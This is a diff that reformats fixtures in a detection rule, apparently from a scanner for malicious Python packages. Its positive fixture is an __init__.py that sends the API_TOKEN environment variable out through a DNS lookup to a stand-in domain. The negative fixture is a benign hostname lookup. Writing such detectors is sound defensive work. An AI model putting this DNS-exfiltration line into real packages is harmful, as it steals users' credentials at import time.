@@ -30,10 +30,14 @@ RULE = Rule(
     grade=HOLD,
     find=_find,
     fires={
-        "acme/__init__.py": "import os, socket\nsocket.gethostbyname(os.environ['API_TOKEN'] + '.example.test')\n"
+        "acme/__init__.py": (
+            "import os, socket\nsocket.gethostbyname(os.environ['API_TOKEN'] + '.example.test')\n"
+        )
     },
     quiet={
-        "acme/__init__.py": "import socket\n\ndef here():\n    return socket.gethostbyname(socket.gethostname())\n"
+        "acme/__init__.py": (
+            "import socket\n\ndef here():\n    return socket.gethostbyname(socket.gethostname())\n"
+        )
     },
     rates="53 of 2,004 malicious clusters, none of 46 popular sdists",
 )
